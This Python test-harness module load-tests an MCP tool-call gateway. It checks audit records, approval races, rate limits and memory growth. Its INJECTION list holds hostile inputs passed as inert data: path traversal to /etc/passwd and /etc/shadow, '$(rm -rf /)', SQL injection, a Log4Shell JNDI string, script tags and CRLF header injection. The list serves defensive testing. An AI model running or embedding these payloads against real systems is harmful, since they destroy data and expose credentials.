"""The reliability suite's load harness: client sessions, a scripted approver, RSS samples, audit export.

A load run is N concurrent MCP client sessions (the Python SDK over Streamable HTTP, each with a
bearer token) that keep calling tools through a real gateway process until a deadline. Every call
carries a unique key in its arguments, so afterwards each call can be matched to its audit record
(exactly one), to the echo fixture's execution log (at most one execution, and only when allowed or
approved) and, for held calls, to its approval row (which must be in a final state).

Call kinds and what the gateway must answer:

| kind      | tool call                                    | intended answers                       |
|-----------|----------------------------------------------|----------------------------------------|
| echo      | `echo {text: key}`                           | ok                                     |
| limited   | `weather {city: key}` (1 per 2 s/session)    | ok, rate_limited (retryAfterSeconds>0) |
| deny      | `delete_thing {name: key, force: true}`      | denied (rule "no force deletes")       |
| held      | `delete_thing {name: <fate>-key}`            | per fate: approve → ok, deny → denied, |
|           |                                              | race → ok or denied, expire → expired  |
| unknown   | `no_such_tool {k: key}`                      | JSON-RPC error -32602 "Unknown tool"   |

The scripted approver polls the approvals API and decides held calls by the fate in their name:
`approve` (then a second, late click that must get 409), `deny` (with a reason), `race` (approve
and deny sent at once: exactly one wins) and `expire` (nobody answers).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import random
import statistics
import subprocess
import time
import urllib.request
from collections import Counter
from collections.abc import AsyncIterator, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx2
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError
from mcp_types import CONNECTION_CLOSED

from tests.conftest import ADMIN_TOKEN, DECISION, executions, gateway_config, person_token
from tests.procs import ROOT, SIGNOFF

TOKENS = {"agent-a": "reliability-token-a-0123456789", "agent-b": "reliability-token-b-9876543210"}
TOKEN_ENV = {"agent-a": "REL_TOKEN_A", "agent-b": "REL_TOKEN_B"}
GATEWAY_ENV = {TOKEN_ENV[name]: token for name, token in TOKENS.items()}
APPROVERS = {"oncall": {"people": ["alice", "bob"]}}
DENY_REASON = "the load test says no"

# Path-like and injection-like strings: data to the gateway, passed through and shown inert.
INJECTION = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config\\sam",
    "/dev/zero",
    "file:///etc/shadow",
    "'; DROP TABLE audit; --",
    '" OR 1=1 --',
    "$(rm -rf /)",
    "`reboot`",
    "| cat /etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "${HOME}",
    "%s%s%s%n",
    "<script>alert(1)</script>",
    "<!channel> <!here> <!everyone> <@U0ADMIN>",
    "<http://evil.example|click here>",
    "\u202eevil\u202c",
    "\u0000nul\u0000",
    "line\nbreak\r\nCRLF: injected-header",
    "\ufeff\ufffe",
    "🔥" * 50,
    "x" * 10_000,
]

# Audit outcome implied by each `_meta["dev.signoff/decision"].reason` a refusal carries.
REASON_OUTCOME = {
    "denied": "denied",
    "expired": "expired",
    "withdrawn": "withdrawn",
    "rate_limited": "rate_limited",
    "approval_unavailable": "approval_unavailable",
    "upstream_unavailable": "upstream_unavailable",
    "upstream_timeout": "upstream_timeout",
    "arguments_too_large": "arguments_too_large",
    "approval_pending": "approval_pending",
    "store_unavailable": "store_unavailable",
}
INTENDED = {
    "echo": {"ok"},
    "limited": {"ok", "rate_limited"},
    "deny": {"denied"},
    "unknown": {"unknown_tool"},
    "held:approve": {"ok"},
    "held:deny": {"denied"},
    "held:race": {"ok", "denied"},
    "held:expire": {"expired"},
    "sleep": {"ok"},
    "crash": {"upstream_unavailable"},
}
# Connection-level failures a client sees when the gateway process itself dies under it.
LOST = "connection_lost"


def load_policy(expire_timeout: str = "1.5s", hold_timeout: str = "30s") -> dict[str, Any]:
    return {
        "default": "deny",
        "rules": [
            {
                "name": "no force deletes",
                "tools": "delete_thing",
                "when": [{"path": "force", "op": "eq", "value": True}],
                "action": "deny",
                "reason": "Force deletes skip the trash.",
            },
            {
                "name": "expiring deletes",
                "tools": "delete_thing",
                "when": [{"path": "name", "op": "regex", "value": "^expire-"}],
                "action": "require_approval",
                "approval": {"approvers": "oncall", "timeout": expire_timeout},
            },
            {
                "name": "deletes need approval",
                "tools": "delete_thing",
                "action": "require_approval",
                "approval": {"approvers": "oncall", "timeout": hold_timeout},
            },
            {
                "name": "weather is rate limited",
                "tools": "weather",
                "action": "allow",
                "rate_limit": {"max": 1, "window": "2s", "per": "session"},
            },
            {"name": "plain tools", "tools": ["echo", "sleep", "crash"], "action": "allow"},
        ],
    }


def load_config(exec_log: Path, database_url: str, **extra: Any) -> dict[str, Any]:
    """A gateway in front of the echo fixture with the load policy, two identities, fast progress."""
    identities = {
        name: {"token_env": TOKEN_ENV[name], "groups": ["agents"]} for name in ("agent-a", "agent-b")
    }
    config = gateway_config(
        exec_log,
        extra.pop("policy", load_policy()),
        approvers=extra.pop("approvers", APPROVERS),
        identities=identities,
        database_url=database_url,
        **extra,
    )
    return config


# -- one call ---------------------------------------------------------------------------------------


@dataclass
class CallRecord:
    """One tools/call as the client saw it."""

    key: str
    kind: str  # echo / limited / deny / unknown / held:<fate> / sleep
    session: int
    started: float
    outcome: str | None = None  # the audit outcome the answer implies
    error: str | None = None  # why the answer was not one of the intended ones
    answered: float | None = None
    progress: int = 0
    approval_id: str | None = None
    retry_after: float | None = None

    @property
    def tool(self) -> str:
        return {
            "echo": "echo",
            "limited": "weather",
            "deny": "delete_thing",
            "unknown": "no_such_tool",
            "sleep": "sleep",
            "crash": "crash",
        }.get(self.kind, "delete_thing")


@dataclass
class Mix:
    """How often each kind of call is made (weights), and held-call fates."""

    echo: int = 50
    limited: int = 15
    deny: int = 10
    held: int = 15
    unknown: int = 5
    sleep: int = 0
    sleep_seconds: float = 30.0
    fates: tuple[tuple[str, int], ...] = (("approve", 4), ("deny", 3), ("race", 2), ("expire", 2))

    def pick(self, rng: random.Random) -> str:
        kinds = [("echo", self.echo), ("limited", self.limited), ("deny", self.deny), ("held", self.held)]
        kinds += [("unknown", self.unknown), ("sleep", self.sleep)]
        kind = rng.choices([k for k, _ in kinds], [w for _, w in kinds])[0]
        if kind == "held":
            kind = "held:" + rng.choices([f for f, _ in self.fates], [w for _, w in self.fates])[0]
        return kind


def arguments_for(rec: CallRecord, mix: Mix) -> dict[str, Any]:
    if rec.kind == "echo":
        return {"text": rec.key}
    if rec.kind == "limited":
        return {"city": rec.key}
    if rec.kind == "deny":
        return {"name": rec.key, "force": True}
    if rec.kind == "unknown":
        return {"k": rec.key}
    if rec.kind == "sleep":
        return {"seconds": mix.sleep_seconds, "note": rec.key}
    if rec.kind == "crash":
        return {"note": rec.key}  # the fixture ignores it; the audit record keeps it
    return {"name": rec.key}


def audit_key(record: dict[str, Any]) -> str | None:
    """The call key a load call put in its arguments, read back from an audit record."""
    args = record.get("arguments") or {}
    for name in ("text", "city", "name", "k", "note"):
        value = args.get(name)
        if isinstance(value, str):
            return value
    return None


async def make_call(client: Client, rec: CallRecord, mix: Mix, tolerated: frozenset[str]) -> None:
    """Make one call and classify the answer into `rec`."""
    args = arguments_for(rec, mix)

    async def on_progress(p: float, total: float | None, message: str | None) -> None:
        rec.progress += 1

    try:
        if rec.kind == "unknown":
            try:
                result = await client.session.call_tool("no_such_tool", args)
            except MCPError as e:
                if e.code != -32602 or e.message != "Unknown tool: no_such_tool":
                    raise  # classified below, like any other call's error
                rec.outcome = "unknown_tool"
            else:
                _classify(rec, result, tolerated)
        else:
            result = await client.session.call_tool(rec.tool, args, progress_callback=on_progress)
            _classify(rec, result, tolerated)
    except MCPError as e:
        if e.code == CONNECTION_CLOSED:  # the SDK's word for a transport that died under the call
            rec.outcome = LOST
            rec.error = None if LOST in tolerated else f"MCPError {e.code}: {e.message}"
            return
        rec.outcome = "mcp_error"
        rec.error = f"MCPError {e.code}: {e.message}"
        if e.code == -32603 and e.message.startswith("upstream '"):
            # The SDK validates a result against the tool's output schema and lists tools when the
            # tool is not in its cache (no_such_tool never is); during an upstream outage that
            # tools/list fails. The gateway's tools/call answer was fine.
            rec.outcome, rec.error = "listing_failed", None
    except Exception as e:  # the transport failed: the gateway went away under the call
        rec.outcome = LOST
        rec.error = f"{type(e).__name__}: {e}"[:300]
        if LOST in tolerated:
            rec.error = None
        return
    rec.answered = time.monotonic()
    allowed = INTENDED[rec.kind] | {t for t in tolerated if "=" not in t}
    allowed |= {t.split("=", 1)[1] for t in tolerated if t.startswith(rec.kind + "=")}
    if rec.error is None and rec.outcome not in allowed:
        rec.error = f"{rec.kind} answered {rec.outcome}"


def _classify(rec: CallRecord, result: Any, tolerated: frozenset[str]) -> None:
    info = (result.meta or {}).get(DECISION)
    text = result.content[0].text if result.content and hasattr(result.content[0], "text") else ""
    if info is not None:
        reason = info.get("reason")
        rec.outcome = REASON_OUTCOME.get(reason, f"?{reason}")
        rec.approval_id = info.get("approvalId")
        if reason == "rate_limited":
            rec.retry_after = info.get("retryAfterSeconds")
            if not (isinstance(rec.retry_after, int | float) and rec.retry_after > 0):
                rec.error = f"rate_limited without a positive retryAfterSeconds: {info}"
        if reason == "denied" and rec.kind == "deny" and info.get("rule") != "no force deletes":
            rec.error = f"denied by the wrong rule: {info}"
        if reason == "denied" and rec.kind.startswith("held:") and info.get("humanReason") != DENY_REASON:
            rec.error = f"denied without the human's reason: {info}"
        if not result.is_error:
            rec.error = f"a refusal without isError: {info}"
        return
    if rec.kind == "crash":
        rec.outcome, rec.error = "ok", f"crash answered {text[:200]!r}"
        return
    if result.is_error:
        rec.outcome = "tool_error"
        rec.error = f"tool error: {text[:200]}"
        return
    rec.outcome = "ok"
    expected = {
        "echo": rec.key,
        "limited": None,
        "sleep": None,
    }.get(rec.kind, f"deleted {rec.key}")
    if rec.kind == "limited":
        if (result.structured_content or {}).get("city") != rec.key:
            rec.error = f"weather answered {result.structured_content}"
    elif expected is not None and text != expected:
        rec.error = f"{rec.kind} answered {text[:200]!r}"


# -- sessions -----------------------------------------------------------------------------------------


@contextlib.asynccontextmanager
async def session(url: str, token: str, read_timeout: float = 120.0) -> AsyncIterator[Client]:
    """One MCP client session (the Python SDK over Streamable HTTP) presenting a bearer token."""
    http = httpx2.AsyncClient(
        headers={"Authorization": f"Bearer {token}"}, timeout=httpx2.Timeout(30.0, read=read_timeout)
    )
    try:
        async with Client(streamable_http_client(url, http_client=http), mode="legacy") as client:
            yield client
    finally:
        await http.aclose()


@dataclass
class Load:
    """N client sessions calling through the gateway until a deadline; every call is recorded."""

    url: str
    sessions: int
    duration: float
    mix: Mix = field(default_factory=Mix)
    calls_per_session: int = 15  # then the session closes and a new one opens (session churn)
    # Answers that are fine in this run besides the intended ones: an outcome for every kind
    # ("upstream_unavailable"), or for one kind ("unknown=denied").
    tolerated: frozenset[str] = frozenset()
    seed: int = 8
    records: list[CallRecord] = field(default_factory=list)
    session_errors: list[str] = field(default_factory=list)
    sessions_opened: int = 0
    all_open_at: float | None = None  # when the first `sessions` sessions were all open (monotonic)

    async def run(self) -> None:
        deadline = time.monotonic() + self.duration
        await asyncio.gather(*(self._worker(i, deadline) for i in range(self.sessions)))

    async def _worker(self, i: int, deadline: float) -> None:
        rng = random.Random(self.seed * 1000 + i)
        token = TOKENS["agent-a" if i % 2 == 0 else "agent-b"]
        n = 0
        while time.monotonic() < deadline - 1.0:  # no session that would make no call
            try:
                async with session(self.url, token) as client:
                    self.sessions_opened += 1
                    if self.sessions_opened == self.sessions:
                        self.all_open_at = time.monotonic()
                    # As agents do; it also fills the SDK's output-schema cache, which would otherwise
                    # send a tools/list after the first call of each tool.
                    try:
                        await client.list_tools()
                    except MCPError:
                        if "upstream_unavailable" not in self.tolerated:
                            raise
                        await asyncio.sleep(0.2)
                        continue
                    for _ in range(self.calls_per_session):
                        if time.monotonic() >= deadline:
                            break
                        kind = self.mix.pick(rng)
                        n += 1
                        prefix = kind.split(":")[1] if kind.startswith("held:") else kind[:3]
                        rec = CallRecord(
                            key=f"{prefix}-s{i}-{n}", kind=kind, session=i, started=time.monotonic()
                        )
                        self.records.append(rec)
                        await make_call(client, rec, self.mix, self.tolerated)
                        if rec.outcome == LOST:
                            break  # the gateway went away: open a new session
            except Exception as e:
                # The SDK cancels a call whose session's transport died: it ends here, unanswered.
                for rec in self.records:
                    if rec.session == i and rec.outcome is None:
                        rec.outcome = LOST
                        if LOST not in self.tolerated:
                            rec.error = f"cut: {type(e).__name__}: {e}"[:300]
                # Opening (or closing) a session failed: expected only while the gateway is down.
                if LOST in self.tolerated:
                    await asyncio.sleep(0.2)
                else:
                    self.session_errors.append(f"session {i}: {type(e).__name__}: {e}"[:300])
                    await asyncio.sleep(0.5)

    def count(self, predicate: Any = None) -> int:
        return sum(1 for r in self.records if predicate is None or predicate(r))

    def outcomes(self) -> Counter[str]:
        return Counter(r.outcome or "none" for r in self.records)


# -- the scripted approver ------------------------------------------------------------------------------


@dataclass
class Approver:
    """Decides held calls through the approvals API by the fate written in their arguments."""

    control_url: str
    token: str = ADMIN_TOKEN
    poll: float = 0.1
    tolerate_outage: bool = False
    seen: dict[str, str] = field(default_factory=dict)  # approval id -> fate
    clicks: Counter[str] = field(default_factory=Counter)
    errors: list[str] = field(default_factory=list)
    _tasks: set[asyncio.Task[None]] = field(default_factory=set)

    async def run(self, stop: asyncio.Event) -> None:
        headers = {"Authorization": f"Bearer {self.token}"}
        async with httpx2.AsyncClient(headers=headers, timeout=30) as http:
            while not stop.is_set():
                try:
                    r = await http.get(f"{self.control_url}/api/approvals?status=pending&limit=1000")
                    pending = r.json()["approvals"]
                except Exception as e:
                    if not self.tolerate_outage:
                        self.errors.append(f"listing approvals: {type(e).__name__}: {e}")
                    await asyncio.sleep(0.2)
                    continue
                for a in pending:
                    if a["id"] in self.seen:
                        continue
                    fate = str(a["arguments"].get("name", "")).split("-")[0]
                    self.seen[a["id"]] = fate
                    if fate in ("approve", "deny", "race"):
                        task = asyncio.create_task(self._decide(http, a["id"], fate))
                        self._tasks.add(task)
                        task.add_done_callback(self._tasks.discard)
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(stop.wait(), self.poll)
            if self._tasks:
                await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _click(self, http: httpx2.AsyncClient, approval_id: str, decision: str, user: str) -> int:
        """One click; during a tolerated outage a failed click is tried again, as a person would."""
        body = {"decision": decision, "reason": DENY_REASON if decision == "deny" else None}
        as_user = {
            "Authorization": f"Bearer {person_token(user)}"
        }  # each person decides with their own token
        for _ in range(40 if self.tolerate_outage else 1):
            try:
                r = await http.post(
                    f"{self.control_url}/api/approvals/{approval_id}/decide", json=body, headers=as_user
                )
            except Exception as e:
                if not self.tolerate_outage:
                    self.errors.append(f"{decision} {approval_id}: {type(e).__name__}: {e}")
                self.clicks["failed"] += 1
                await asyncio.sleep(0.5)
                continue
            self.clicks["sent"] += 1
            self.clicks[str(r.status_code)] += 1
            if r.status_code < 500 or not self.tolerate_outage:
                return r.status_code
            await asyncio.sleep(0.5)
        return 0

    async def _decide(self, http: httpx2.AsyncClient, approval_id: str, fate: str) -> None:
        if fate == "approve":
            first = await self._click(http, approval_id, "approve", "alice")
            late = await self._click(http, approval_id, "deny", "bob")
            if (first, late) != (200, 409) and not self.tolerate_outage:
                self.errors.append(f"approve {approval_id}: approve → {first}, late deny → {late}")
        elif fate == "deny":
            status = await self._click(http, approval_id, "deny", "bob")
            if status != 200 and not self.tolerate_outage:
                self.errors.append(f"deny {approval_id}: {status}")
        else:
            answers = await asyncio.gather(
                self._click(http, approval_id, "approve", "alice"),
                self._click(http, approval_id, "deny", "bob"),
            )
            if sorted(answers) != [200, 409] and not self.tolerate_outage:
                self.errors.append(f"race {approval_id}: {answers}")


# -- gateway process ------------------------------------------------------------------------------------


def rss_kb(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as fh:
            for line in fh:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def children(pid: int) -> list[int]:
    """Direct children of a process (the gateway's stdio upstreams)."""
    out: list[int] = []
    with contextlib.suppress(OSError):
        for task in os.listdir(f"/proc/{pid}/task"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/task/{task}/children") as fh:
                out += [int(p) for p in fh.read().split()]
    return out


@dataclass
class RssSampler:
    """The gateway's resident memory, sampled every `every` seconds."""

    pid: int
    every: float = 1.0
    samples: list[tuple[float, int]] = field(default_factory=list)

    async def run(self, stop: asyncio.Event) -> None:
        while not stop.is_set():
            kb = rss_kb(self.pid)
            if kb is not None:
                self.samples.append((time.monotonic(), kb))
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), self.every)

    def thirds(self, warmup: float = 5.0, since: float | None = None) -> tuple[float, float]:
        """Median RSS (MB) of the first and the last third of the samples after a warm-up.

        The first seconds fill caches, pools and 50 sessions' worth of buffers; a leak is growth after.
        `since` (monotonic) moves the warm-up's end later: on a slow machine opening the sessions
        took 15 s, and their buffers counted as growth.
        """
        t0 = self.samples[0][0] if self.samples else 0.0
        start = max(t0 + warmup, since or 0.0)
        values = [kb / 1024 for t, kb in self.samples if t >= start]
        third = max(1, len(values) // 3)
        return statistics.median(values[:third]), statistics.median(values[-third:])


# The MCP SDK (mcp 2.3.0, streamable_http.py `_handle_post_request`) answers a notification with 202
# and only then hands it to the session; when the session was terminated by a DELETE racing that POST,
# the hand-over raises ClosedResourceError and the SDK's error path tries to send a 500 on the finished
# response. Harmless for the client (it got its 202) and not the gateway's code, so counted apart.
SDK_NOTIFICATION_RACE = ("Error handling POST request", "ClosedResourceError")


# Seen once, only with both CPU cores saturated (the suite under `-n 2` beside other work): SQLAlchemy
# logs "Exception during reset or similar … CancelledError" when a pooled SQLite connection's rollback
# is cancelled. Not reproduced alone; counted with the SDK race and reported, not failed on.
POOL_RESET_CANCELLED = ("Exception during reset or similar", "CancelledError")


def gateway_errors(output: str) -> tuple[list[str], int]:
    """ERROR lines and tracebacks in a gateway log, minus the known noise above; and how much noise."""
    incidents: list[list[str]] = []
    for line in output.splitlines():
        starts = " ERROR " in line or line.startswith(("ERROR:", "Traceback"))
        continuation = line.startswith((" ", "Traceback", "During handling", "The above exception")) or (
            incidents and not line[:4].isdigit() and not line.startswith("ERROR:")
        )
        if starts and not (incidents and continuation and line.startswith("Traceback")):
            incidents.append([line])
        elif incidents and continuation:
            incidents[-1].append(line)
    errors, races = [], 0
    for i, incident in enumerate(incidents):
        text = "\n".join(incident)
        after_race = i > 0 and "\n".join(incidents[i - 1]).count(SDK_NOTIFICATION_RACE[1]) > 0
        if all(marker in text for marker in SDK_NOTIFICATION_RACE) or all(
            marker in text for marker in POOL_RESET_CANCELLED
        ):
            races += 1
        elif after_race and "after response already completed" in text:
            continue  # the second half of the same SDK race
        else:
            errors.append(text[:3000])
    return errors, races


def metric_total(control_url: str, name: str = "signoff_tool_calls_total") -> float:
    with urllib.request.urlopen(control_url + "/metrics", timeout=10) as r:
        text = r.read().decode()
    return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith(name + "{"))


async def upstreams_up(control_url: str, timeout: float = 20.0) -> None:
    """Wait until `/readyz` says every upstream is up (a fault injected earlier may still be mending)."""
    deadline = time.monotonic() + timeout
    last = ""
    async with httpx2.AsyncClient(timeout=5) as http:
        while time.monotonic() < deadline:
            with contextlib.suppress(httpx2.HTTPError):
                r = await http.get(control_url + "/readyz")
                if r.status_code == 200:
                    return
                last = r.text
            await asyncio.sleep(0.05)
    raise AssertionError(f"the upstreams were not up again within {timeout}s: {last}")


# -- reading back what the gateway recorded ------------------------------------------------------------


def export_audit(database_url: str) -> list[dict[str, Any]]:
    """Every audit record, through the product's own export (`signoff audit --jsonl`)."""
    out = subprocess.run(
        [*SIGNOFF, "audit", "--database", database_url, "--limit", "100000000", "--jsonl"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    if out.returncode != 0:
        raise RuntimeError(f"signoff audit failed ({out.returncode}): {out.stderr}")
    # JSON Lines end at "\n" only: a record may hold U+0085 or U+2028, which str.splitlines() splits at.
    return [json.loads(line) for line in out.stdout.split("\n") if line.strip()]


async def wait_for_audit(database_url: str, at_least: int, timeout: float = 20.0) -> list[dict[str, Any]]:
    """The audit log once it holds `at_least` call records (it is written in batches), or at the timeout."""
    deadline = time.monotonic() + timeout
    while True:
        records = await asyncio.to_thread(export_audit, database_url)
        calls = [r for r in records if r["decision"] not in CLICK_EVENTS]
        if len(calls) >= at_least or time.monotonic() > deadline:
            return records
        await asyncio.sleep(0.5)


async def audit_texts(database_url: str) -> list[str]:
    """The `text` argument of every audit record, read in-process (cheaper than the CLI for polling)."""
    from proxy.store import Store

    store = Store(database_url)
    try:
        return [str((r.arguments or {}).get("text")) for r in await store.audit(limit=100_000)]
    finally:
        await store.close()


async def all_approvals(database_url: str) -> list[Any]:
    """Every approval row, read from the database."""
    from proxy.store import Store

    store = Store(database_url)
    try:
        return await store.approvals(None, limit=100_000_000)
    finally:
        await store.close()


CLICK_EVENTS = ("refused_click", "late_click")
PROBE = "probe-"  # calls the test makes to see whether the gateway serves; not part of the load
FINAL = {"executed", "denied", "expired", "withdrawn"}


# -- verification ------------------------------------------------------------------------------------


@dataclass
class Report:
    """What a run did and every way it broke the suite's invariants."""

    calls: int = 0
    outcomes: Counter[str] = field(default_factory=Counter)
    unexpected: list[str] = field(default_factory=list)
    audit_calls: int = 0
    lost: list[str] = field(default_factory=list)
    duplicated: list[str] = field(default_factory=list)
    mismatched: list[str] = field(default_factory=list)
    phantom: list[str] = field(default_factory=list)
    double_executions: list[str] = field(default_factory=list)
    unapproved_executions: list[str] = field(default_factory=list)
    not_final: list[str] = field(default_factory=list)
    approvals: int = 0
    approval_states: Counter[str] = field(default_factory=Counter)
    late_clicks_audited: int = 0
    executions: int = 0

    def problems(self) -> dict[str, list[str]]:
        return {
            k: v[:10]
            for k, v in {
                "unexpected answers": self.unexpected,
                "audit records lost": self.lost,
                "audit records duplicated": self.duplicated,
                "audit outcome differs from the answer": self.mismatched,
                "audit records of calls nobody made": self.phantom,
                "double executions": self.double_executions,
                "executions without an approval or allowing answer": self.unapproved_executions,
                "approvals not in a final state": self.not_final,
            }.items()
            if v
        }


def verify(
    records: Iterable[CallRecord],
    audit: list[dict[str, Any]],
    exec_log: Path,
    approvals: list[Any],
    *,
    must_be_audited: Any = None,
) -> Report:
    """Match every call to its audit record, its executions and its approval; collect violations.

    `must_be_audited(rec)` says which answered calls must have a record (default: every one).
    """
    records = list(records)
    rep = Report(calls=len(records), outcomes=Counter(r.outcome or "none" for r in records))
    rep.unexpected = [f"{r.key}: {r.error}" for r in records if r.error]
    by_key = {r.key: r for r in records}

    calls = [
        a for a in audit if a["decision"] not in CLICK_EVENTS and not (audit_key(a) or "").startswith(PROBE)
    ]
    rep.audit_calls = len(calls)
    rep.late_clicks_audited = sum(1 for a in audit if a["decision"] == "late_click")
    audited: dict[str, list[dict[str, Any]]] = {}
    for a in calls:
        key = audit_key(a)
        if key is None or key not in by_key:
            rep.phantom.append(f"{a['tool']} {a['arguments']} {a['outcome']}")
            continue
        audited.setdefault(key, []).append(a)
    for r in records:
        got = audited.get(r.key, [])
        if len(got) > 1:
            rep.duplicated.append(f"{r.key}: {[g['outcome'] for g in got]}")
        if not got:
            answered = r.answered is not None
            if answered and (must_be_audited is None or must_be_audited(r)):
                rep.lost.append(f"{r.key} ({r.outcome})")
            continue
        if r.answered is not None and r.outcome not in ("mcp_error", LOST) and got[0]["outcome"] != r.outcome:
            rep.mismatched.append(f"{r.key}: answered {r.outcome}, audited {got[0]['outcome']}")

    # Executions: at most once per key, and only for calls that were allowed or approved.
    executed = Counter()
    for e in executions(exec_log):
        args = e["args"]
        key = args.get("text") or args.get("city") or args.get("name")
        if key is not None and not key.startswith(PROBE):
            executed[key] += 1
    rep.executions = sum(executed.values())
    approval_by_key = {str(a.arguments.get("name")): a for a in approvals}
    for key, n in executed.items():
        if n > 1:
            rep.double_executions.append(f"{key} ran {n} times")
        r = by_key.get(key)
        if r is None:
            rep.unapproved_executions.append(f"{key}: executed, but no such call was made")
            continue
        if r.kind == "deny":
            rep.unapproved_executions.append(f"{key}: denied by policy, but executed")
        elif r.kind.startswith("held:"):
            a = approval_by_key.get(key)
            if a is None or a.status != "executed":
                rep.unapproved_executions.append(
                    f"{key}: executed with approval {a.status if a else 'missing'} ({r.outcome})"
                )
        elif r.outcome not in ("ok", "upstream_unavailable", "upstream_timeout", LOST, None):
            rep.unapproved_executions.append(f"{key}: executed though answered {r.outcome}")
    for r in records:
        if r.outcome == "ok" and r.kind != "unknown" and r.kind != "sleep" and executed[r.key] != 1:
            rep.unapproved_executions.append(f"{r.key}: answered ok but executed {executed[r.key]} times")

    rep.approvals = len(approvals)
    rep.approval_states = Counter(a.status for a in approvals)
    for a in approvals:
        if a.status not in FINAL:
            rep.not_final.append(f"{a.id} ({a.arguments.get('name')}): {a.status}")
    return rep


def assert_clean(rep: Report) -> None:
    """Fail with every violation listed (up to ten of each kind)."""
    problems = rep.problems()
    if problems:
        raise AssertionError("invariants broken:\n" + json.dumps(problems, indent=1))


def summary(name: str, rep: Report, elapsed: float, **extra: Any) -> str:
    """The one figures line a test prints."""
    outcomes = ", ".join(f"{k} {v:,}" for k, v in sorted(rep.outcomes.items(), key=lambda kv: -kv[1]))
    parts = [
        f"{rep.calls:,} calls ({outcomes})",
        f"{len(rep.unexpected)} unexpected errors",
        f"{rep.audit_calls:,} audit records",
        f"{len(rep.lost)} lost",
        f"{len(rep.duplicated)} duplicated",
        f"{len(rep.double_executions)} double executions",
        f"{len(rep.unapproved_executions)} unapproved executions",
        f"{rep.approvals} approvals ({', '.join(f'{k} {v}' for k, v in sorted(rep.approval_states.items()))})",
        f"{len(rep.not_final)} not final",
    ]
    parts += [f"{k.replace('_', ' ')} {v}" for k, v in extra.items()]
    parts.append(f"{elapsed:.1f} s")
    return f"{name}: " + ", ".join(parts)


# -- faults during load ------------------------------------------------------------------------------------


@dataclass
class Run:
    """A load with an approver and an RSS sampler, and faults fired at given seconds into it."""

    load: Load
    approver: Approver
    sampler: RssSampler | None = None
    events: list[tuple[float, str]] = field(default_factory=list)
    elapsed: float = 0.0
    started: float = 0.0

    def note(self, what: str) -> None:
        self.events.append((round(time.monotonic() - self.started, 2), what))

    async def drive(self, faults: list[tuple[float, Any]] = ()) -> None:
        """Run the load; call each `fault(run)` coroutine function at its second; wait for all."""
        stop = asyncio.Event()
        background = [asyncio.create_task(self.approver.run(stop))]
        if self.sampler is not None:
            background.append(asyncio.create_task(self.sampler.run(stop)))
        self.started = time.monotonic()
        load = asyncio.create_task(self.load.run())
        try:
            for at, fault in faults:
                await asyncio.sleep(max(0.0, self.started + at - time.monotonic()))
                await fault(self)
            await load
        finally:
            self.elapsed = time.monotonic() - self.started
            stop.set()
            await asyncio.gather(*background, return_exceptions=True)
            if not load.done():
                load.cancel()

    async def one_call(self, client: Client, kind: str, key: str, tolerated: frozenset[str]) -> CallRecord:
        """A call made by the test itself (a fault such as `crash`), recorded with the load's calls."""
        rec = CallRecord(key=key, kind=kind, session=-1, started=time.monotonic())
        self.load.records.append(rec)
        await make_call(client, rec, self.load.mix, tolerated)
        return rec


async def serves_again(url: str, token: str = TOKENS["agent-a"], timeout: float = 30.0) -> float:
    """Seconds until a fresh session's `echo` succeeds (the gateway serves again)."""
    started = time.monotonic()
    last = ""
    while time.monotonic() - started < timeout:
        try:
            async with session(url, token, read_timeout=10) as client:
                text = f"{PROBE}{time.monotonic():.6f}"
                result = await client.call_tool("echo", {"text": text})
                if not result.is_error and result.content[0].text == text:
                    return time.monotonic() - started
                last = result.content[0].text
        except Exception as e:
            last = f"{type(e).__name__}: {e}"
        await asyncio.sleep(0.25)
    raise AssertionError(f"the gateway did not serve again within {timeout}s: {last}")
